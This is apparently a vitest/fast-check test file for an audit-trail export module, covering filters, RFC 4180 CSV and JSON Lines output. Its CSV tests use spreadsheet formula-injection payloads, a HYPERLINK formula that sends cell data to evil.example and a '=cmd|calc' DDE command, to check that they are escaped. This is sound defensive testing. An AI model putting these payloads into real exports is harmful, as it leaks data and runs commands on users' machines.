import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  csvHeader,
  csvRecord,
  type ExportFilters,
  exportHeader,
  exportRecord,
  exportRecords,
  jsonlRecord,
  matchesFilters,
  parseExportRequest,
} from '../../functions/domain/export-format.ts';
import {
  appendTo,
  CHAINS,
  canonicalJson,
  sha256Hex,
  type TrailEntry,
  type TrailEvent,
} from '../../functions/domain/trail.ts';

const PROJECT = '3f1c2b4a-5d6e-4f70-8a9b-0c1d2e3f4a5b';
const OTHER = '9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d';

const baseEvent: TrailEvent = {
  chain: CHAINS.project(PROJECT),
  subject: { projectId: PROJECT, gateId: 'business-case', sequence: 2 },
  at: '2030-03-15T10:20:30.000Z',
  actor: {
    type: 'person',
    id: 'sam.sponsor@example.com',
    sub: 'sub-1',
    name: 'Sam Sponsor',
    role: 'approver',
  },
  action: 'decision.recorded',
  definition: { id: 'standard', version: 3 },
  source: { ip: '192.0.2.7', userAgent: 'Mail/1.0' },
  packageHash: 'a'.repeat(64),
  detail: {
    gateId: 'business-case',
    outcome: 'go',
    signature: { name: 'Sam Sponsor', at: '2030-03-15T10:20:30.000Z', meaning: 'Go: Gate 2' },
  },
};
const entryOf = (change: Partial<TrailEvent> = {}): TrailEntry =>
  appendTo(undefined, { ...baseEvent, ...change });

/**
 * A strict RFC 4180 reader: records end in CRLF; a field is quoted (quotes doubled inside) or
 * holds no quote, comma, CR or LF. Throws on anything else.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const record: string[] = [];
    for (;;) {
      let field = '';
      if (text[i] === '"') {
        i++;
        for (;;) {
          if (i >= text.length) throw new Error('unterminated quoted field');
          if (text[i] === '"') {
            if (text[i + 1] === '"') {
              field += '"';
              i += 2;
            } else {
              i++;
              break;
            }
          } else field += text[i++];
        }
      } else {
        while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
          if (text[i] === '"') throw new Error(`a quote inside an unquoted field at ${i}`);
          field += text[i++];
        }
      }
      record.push(field);
      if (text[i] === ',') {
        i++;
        continue;
      }
      if (text[i] === '\r' && text[i + 1] === '\n') {
        i += 2;
        break;
      }
      throw new Error(`a record that does not end in CRLF at ${i}: ${JSON.stringify(text.slice(i, i + 10))}`);
    }
    records.push(record);
  }
  return records;
}

/** The cells of one CSV record, by column. */
const cells = (line: string): Record<(typeof CSV_COLUMNS)[number], string> => {
  const [record, ...more] = parseCsv(line);
  expect(more).toEqual([]);
  expect(record).toHaveLength(CSV_COLUMNS.length);
  return Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, record?.[i]])) as Record<
    (typeof CSV_COLUMNS)[number],
    string
  >;
};

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
/** The full-width forms some spreadsheets normalise: csv-stringify escapes them too. */
const FULL_WIDTH_STARTS = ['\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const escaped = (value: string) =>
  [...FORMULA_STARTS, ...FULL_WIDTH_STARTS].includes(value[0] as string) ? `'${value}` : value;

describe('parseExportRequest', () => {
  it('takes a format alone, and every filter at once', () => {
    // Prepare
    const all = {
      format: 'jsonl',
      projectId: PROJECT,
      from: '2030-01-01',
      to: '2030-01-31',
      gateId: 'business-case',
      approver: 'Sam.Sponsor@Example.COM',
      action: 'decision.recorded',
    };

    // Act
    const alone = parseExportRequest({ format: 'csv' });
    const every = parseExportRequest(all);

    // Assess
    expect(alone).toEqual({ ok: true, value: { format: 'csv' } });
    expect(every).toEqual({ ok: true, value: { ...all, approver: 'sam.sponsor@example.com' } });
  });

  it('takes a range of one day (from = to)', () => {
    // Prepare
    const input = { format: 'csv', from: '2030-02-28', to: '2030-02-28' };

    // Act
    const result = parseExportRequest(input);

    // Assess
    expect(result.ok).toBe(true);
  });

  it('refuses unknown filter keys, naming each', () => {
    // Prepare
    const input = { format: 'csv', project: PROJECT, since: '2030-01-01' };

    // Act
    const result = parseExportRequest(input);

    // Assess
    expect(result).toEqual({
      ok: false,
      problems: [{ path: '(root)', message: expect.stringMatching(/"project".*"since"/) }],
    });
  });

  it('refuses a range that ends before it starts, at `to`', () => {
    // Prepare
    const input = { format: 'csv', from: '2030-03-02', to: '2030-03-01' };

    // Act
    const result = parseExportRequest(input);

    // Assess
    expect(result).toEqual({
      ok: false,
      problems: [{ path: 'to', message: 'must not be before from (2030-03-02)' }],
    });
  });

  it.each([
    ['from', '2030-02-30'],
    ['from', '2030-13-01'],
    ['to', 'yesterday'],
    ['to', '2030-01-01T00:00:00Z'],
    ['from', '30-01-01'],
    ['to', ''],
  ])('refuses a bad date in %s (%j), at that path', (path, value) => {
    // Prepare
    const input = { format: 'csv', from: '2030-01-01', to: '2030-01-31', [path]: value };

    // Act
    const result = parseExportRequest(input);

    // Assess
    expect(result).toEqual({ ok: false, problems: [{ path, message: expect.any(String) }] });
  });

  it.each(['not an email', 'a@', '@example.com', 'sam@example..com', `${'a'.repeat(250)}@example.com`, ''])(
    'refuses a bad approver (%j), at `approver`',
    (approver) => {
      // Prepare
      const input = { format: 'csv', approver };

      // Act
      const result = parseExportRequest(input);

      // Assess
      expect(result).toEqual({ ok: false, problems: [{ path: 'approver', message: expect.any(String) }] });
    },
  );

  it.each([
    'Decision.recorded',
    'decision',
    'decision.',
    '.recorded',
    'decision recorded',
    'a.b;c',
    `a.${'b'.repeat(64)}`,
  ])('refuses a bad action (%j), at `action`', (action) => {
    // Prepare
    const input = { format: 'csv', action };

    // Act
    const result = parseExportRequest(input);

    // Assess
    expect(result).toEqual({ ok: false, problems: [{ path: 'action', message: expect.any(String) }] });
  });

  it('names every bad filter at once, by path', () => {
    // Prepare
    const input = { format: 'xml', projectId: 'not-a-uuid', gateId: 'Business Case', approver: 1 };

    // Act
    const result = parseExportRequest(input);

    // Assess
    expect(result.ok).toBe(false);
    expect(result.ok ? [] : result.problems.map((p) => p.path).sort()).toEqual([
      'approver',
      'format',
      'gateId',
      'projectId',
    ]);
  });

  it.each([null, [], 'csv', 1, undefined])('refuses a body that is not an object (%j)', (input) => {
    // Prepare — input

    // Act
    const result = parseExportRequest(input);

    // Assess
    expect(result).toEqual({ ok: false, problems: [{ path: '(root)', message: expect.any(String) }] });
  });
});

describe('matchesFilters', () => {
  const entry = entryOf();

  it('matches everything without filters', () => {
    // Prepare
    const filters: ExportFilters = {};

    // Act
    const result = matchesFilters(entry, filters);

    // Assess
    expect(result).toBe(true);
  });

  it.each<[string, ExportFilters, boolean]>([
    ['its project', { projectId: PROJECT }, true],
    ['another project', { projectId: OTHER }, false],
    ['a range around its day', { from: '2030-03-01', to: '2030-03-31' }, true],
    ['a range starting on its day (inclusive)', { from: '2030-03-15', to: '2030-03-20' }, true],
    ['a range ending on its day (inclusive)', { from: '2030-03-01', to: '2030-03-15' }, true],
    ['a range before its day', { from: '2030-03-01', to: '2030-03-14' }, false],
    ['a range after its day', { from: '2030-03-16', to: '2030-03-31' }, false],
    ['its gate', { gateId: 'business-case' }, true],
    ['another gate', { gateId: 'launch' }, false],
    ['its action', { action: 'decision.recorded' }, true],
    ['another action', { action: 'gate.opened' }, false],
    ['its actor', { approver: 'sam.sponsor@example.com' }, true],
    ['someone else', { approver: 'pat.pmo@example.com' }, false],
    [
      'all of them at once',
      {
        projectId: PROJECT,
        from: '2030-03-15',
        to: '2030-03-15',
        gateId: 'business-case',
        approver: 'sam.sponsor@example.com',
        action: 'decision.recorded',
      },
      true,
    ],
    [
      'all but one',
      {
        projectId: PROJECT,
        gateId: 'business-case',
        approver: 'sam.sponsor@example.com',
        action: 'gate.opened',
      },
      false,
    ],
  ])('filtered by %s: %s', (_what, filters, expected) => {
    // Prepare — entry

    // Act
    const result = matchesFilters(entry, filters);

    // Assess
    expect(result).toBe(expected);
  });

  it('finds a gate named only in the detail (an entry without a subject gate)', () => {
    // Prepare
    const e = entryOf({ subject: { projectId: PROJECT }, detail: { gateId: 'launch' } });

    // Act
    const result = [matchesFilters(e, { gateId: 'launch' }), matchesFilters(e, { gateId: 'scoping' })];

    // Assess
    expect(result).toEqual([true, false]);
  });

  it('finds an approver as the actor, or named in the detail as to, from or approver, whatever the case', () => {
    // Prepare
    const system = { type: 'system' as const, id: 'gate-review' };
    const handedTo = entryOf({ actor: system, detail: { to: 'Ada.Architect@Example.com' } });
    const handedFrom = entryOf({ actor: system, detail: { from: 'sam.sponsor@example.com' } });
    const asked = entryOf({ actor: system, detail: { approver: 'fay.finance@example.com' } });
    const byActor = entryOf({ actor: { type: 'person', id: 'Pat.PMO@example.com' } });

    // Act
    const results = [
      matchesFilters(handedTo, { approver: 'ada.architect@example.com' }),
      matchesFilters(handedFrom, { approver: 'sam.sponsor@example.com' }),
      matchesFilters(asked, { approver: 'fay.finance@example.com' }),
      matchesFilters(byActor, { approver: 'pat.pmo@example.com' }),
      matchesFilters(asked, { approver: 'sam.sponsor@example.com' }),
    ];

    // Assess
    expect(results).toEqual([true, true, true, true, false]);
  });

  it('an entry without a project matches no project filter', () => {
    // Prepare
    const refusal = entryOf({ chain: CHAINS.access, subject: undefined, action: 'request.refused' });

    // Act
    const result = matchesFilters(refusal, { projectId: PROJECT });

    // Assess
    expect(result).toBe(false);
  });

  it('property: the filters are a conjunction — an entry matches all of them iff it matches each alone', () => {
    const filterArb: fc.Arbitrary<ExportFilters> = fc.record(
      {
        projectId: fc.constantFrom(PROJECT, OTHER),
        from: fc.constantFrom('2030-03-01', '2030-03-15', '2030-03-16'),
        to: fc.constantFrom('2030-03-14', '2030-03-15', '2030-04-01'),
        gateId: fc.constantFrom('business-case', 'launch'),
        approver: fc.constantFrom('sam.sponsor@example.com', 'pat.pmo@example.com'),
        action: fc.constantFrom('decision.recorded', 'gate.opened'),
      },
      { requiredKeys: [] },
    );
    fc.assert(
      fc.property(filterArb, (filters) => {
        // Prepare
        const single = Object.entries(filters).map(([k, v]) => ({ [k]: v }) as ExportFilters);

        // Act
        const all = matchesFilters(entry, filters);
        const each = single.every((f) => matchesFilters(entry, f));

        // Assess
        expect(all).toBe(each);
      }),
      { numRuns: 100 },
    );
  });
});

describe('CSV (RFC 4180)', () => {
  it('has a header of the columns, ending in CRLF', () => {
    // Prepare — the columns

    // Act
    const header = csvHeader();

    // Assess
    expect(header).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
    expect(exportHeader('csv')).toBe(header);
    expect(exportHeader('jsonl')).toBe('');
  });

  it('writes one record per entry, every column in order, ending in CRLF', () => {
    // Prepare
    const entry = entryOf();

    // Act
    const line = csvRecord(entry);

    // Assess
    expect(line.endsWith('\r\n')).toBe(true);
    expect(exportRecord('csv', entry)).toBe(line);
    expect(cells(line)).toEqual({
      chain: entry.chain,
      seq: '1',
      at: entry.at,
      action: 'decision.recorded',
      actor_type: 'person',
      actor_id: 'sam.sponsor@example.com',
      actor_sub: 'sub-1',
      actor_name: 'Sam Sponsor',
      actor_role: 'approver',
      project: PROJECT,
      gate: 'business-case',
      gate_instance: '2',
      definition: 'standard v3',
      source_ip: '192.0.2.7',
      user_agent: 'Mail/1.0',
      package_hash: 'a'.repeat(64),
      signature: 'Sam Sponsor; 2030-03-15T10:20:30.000Z; Go: Gate 2',
      detail: JSON.stringify(entry.detail),
      prev_hash: entry.prevHash,
      hash: entry.hash,
    });
  });

  it('leaves absent fields empty', () => {
    // Prepare
    const entry = appendTo(undefined, {
      chain: CHAINS.access,
      at: '2030-01-01T00:00:00.000Z',
      actor: { type: 'person', id: 'anonymous' },
      action: 'request.refused',
      detail: {},
    });

    // Act
    const row = cells(csvRecord(entry));

    // Assess
    for (const column of [
      'actor_sub',
      'actor_name',
      'actor_role',
      'project',
      'gate',
      'gate_instance',
      'definition',
      'source_ip',
      'user_agent',
      'package_hash',
      'signature',
    ] as const)
      expect(row[column], column).toBe('');
    expect(row.detail).toBe('{}');
  });

  it.each([
    ['a comma', 'Sponsor, Sam', '"Sponsor, Sam"'],
    ['a quote', 'Sam "the sponsor"', '"Sam ""the sponsor"""'],
    ['a line feed', 'Sam\nSponsor', '"Sam\nSponsor"'],
    ['a lone CR', 'Sam\rSponsor', '"Sam\rSponsor"'],
    ['a CRLF', 'Sam\r\nSponsor', '"Sam\r\nSponsor"'],
    ['nothing special', 'Sam Sponsor', 'Sam Sponsor'],
  ])('quotes a field with %s as RFC 4180 asks', (_what, name, written) => {
    // Prepare
    const entry = entryOf({ actor: { type: 'person', id: 'sam.sponsor@example.com', name } });

    // Act
    const line = csvRecord(entry);

    // Assess
    expect(line).toContain(`,${written},`);
    expect(cells(line).actor_name).toBe(name);
  });

  it('quotes the detail JSON (it has commas and quotes) and reads back to it', () => {
    // Prepare
    const entry = entryOf({ detail: { comment: 'a, "b"\r\nc', n: 1 } });

    // Act
    const row = cells(csvRecord(entry));

    // Assess
    expect(JSON.parse(row.detail)).toEqual(entry.detail);
  });

  it.each(FORMULA_STARTS)('escapes a cell starting with %j so a spreadsheet shows it as text', (start) => {
    // Prepare
    const payload = `${start}HYPERLINK("https://evil.example/?x="&A1,"click")`;
    const entry = entryOf({
      action: payload,
      actor: { type: 'person', id: payload, name: payload, role: payload, sub: payload },
      source: { ip: payload, userAgent: payload },
    });

    // Act
    const row = cells(csvRecord(entry));

    // Assess
    for (const column of [
      'action',
      'actor_id',
      'actor_name',
      'actor_role',
      'actor_sub',
      'source_ip',
      'user_agent',
    ] as const)
      expect(row[column], column).toBe(`'${payload}`);
  });

  it('keeps a line break inside its cell: a formula after it cannot start a row of its own', () => {
    // Prepare
    const entry = entryOf({
      actor: { type: 'person', id: 'x@example.com', name: 'Sam\n=HYPERLINK("https://evil.example")' },
    });

    // Act
    const line = csvRecord(entry);

    // Assess
    expect(line.split('\r\n')).toEqual([expect.any(String), '']);
    expect(line).toContain('"Sam\n=HYPERLINK(""https://evil.example"")"');
    expect(parseCsv(line)).toHaveLength(1);
    expect(cells(line).actor_name).toBe('Sam\n=HYPERLINK("https://evil.example")');
  });

  it('escapes a signature manifestation whose printed name starts a formula', () => {
    // Prepare
    const entry = entryOf({ detail: { signature: { name: '=cmd|calc', at: 'now', meaning: 'Go' } } });

    // Act
    const row = cells(csvRecord(entry));

    // Assess
    expect(row.signature).toBe("'=cmd|calc; now; Go");
  });

  it('property: for any string in any text field, no cell starts with = + - @ tab or CR unescaped, and each reads back', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc
        .tuple(
          fc.constantFrom(...FORMULA_STARTS, ...FULL_WIDTH_STARTS, '"', ',', '\n', "'", ' '),
          fc.string({ maxLength: 20 }),
        )
        .map(([a, b]) => `${a}${b}`),
    );
    const fields = fc.record({
      action: text,
      actorId: text,
      sub: text,
      name: text,
      role: text,
      gateId: text,
      projectId: text,
      definitionId: text,
      ip: text,
      userAgent: text,
      packageHash: text,
      signatureName: text,
      chain: text,
      at: text,
    });
    fc.assert(
      fc.property(fields, (f) => {
        // Prepare
        const entry = appendTo(undefined, {
          chain: f.chain,
          subject: { projectId: f.projectId, gateId: f.gateId, sequence: 1 },
          at: f.at,
          actor: { type: 'person', id: f.actorId, sub: f.sub, name: f.name, role: f.role },
          action: f.action,
          definition: { id: f.definitionId, version: 1 },
          source: { ip: f.ip, userAgent: f.userAgent },
          packageHash: f.packageHash,
          detail: { signature: { name: f.signatureName, at: 'x', meaning: 'y' }, note: f.name },
        });

        // Act
        const row = cells(csvRecord(entry));

        // Assess
        const written: Partial<Record<(typeof CSV_COLUMNS)[number], string>> = {
          chain: f.chain,
          at: f.at,
          action: f.action,
          actor_id: f.actorId,
          actor_sub: f.sub,
          actor_name: f.name,
          actor_role: f.role,
          project: f.projectId,
          gate: f.gateId,
          definition: `${f.definitionId} v1`,
          source_ip: f.ip,
          user_agent: f.userAgent,
          package_hash: f.packageHash,
          signature: `${f.signatureName}; x; y`,
        };
        for (const cell of Object.values(row)) expect(FORMULA_STARTS).not.toContain(cell[0]);
        for (const [column, value] of Object.entries(written)) {
          const cell = row[column as keyof typeof row];
          expect(cell, column).toBe(escaped(value));
        }
        expect(JSON.parse(row.detail)).toEqual(entry.detail);
      }),
      { numRuns: 300 },
    );
  });
});

describe('JSON Lines', () => {
  it('writes each entry whole on one line, from which its hash can be recomputed', () => {
    // Prepare
    const entry = entryOf({ detail: { comment: 'line one\nline two\r\n', '\u2028': 'x' } });

    // Act
    const line = jsonlRecord(entry);

    // Assess
    expect(exportRecord('jsonl', entry)).toBe(line);
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toMatch(/[\n\r]/);
    expect(JSON.parse(line)).toEqual(entry);
    const { hash, ...body } = JSON.parse(line) as TrailEntry;
    expect(hash).toBe(entry.hash);
    expect(sha256Hex(canonicalJson(body))).toBe(hash);
  });
});

describe('a page at a time', () => {
  it('writes a page of entries exactly as the entries one by one', () => {
    fc.assert(
      fc.property(fc.array(fc.string(), { maxLength: 20 }), (comments) => {
        // Prepare
        const entries = comments.map((comment) => entryOf({ detail: { comment } }));

        // Act and assess
        expect(exportRecords('csv', entries)).toBe(entries.map((e) => exportRecord('csv', e)).join(''));
        expect(exportRecords('jsonl', entries)).toBe(entries.map((e) => exportRecord('jsonl', e)).join(''));
      }),
    );
  });
});
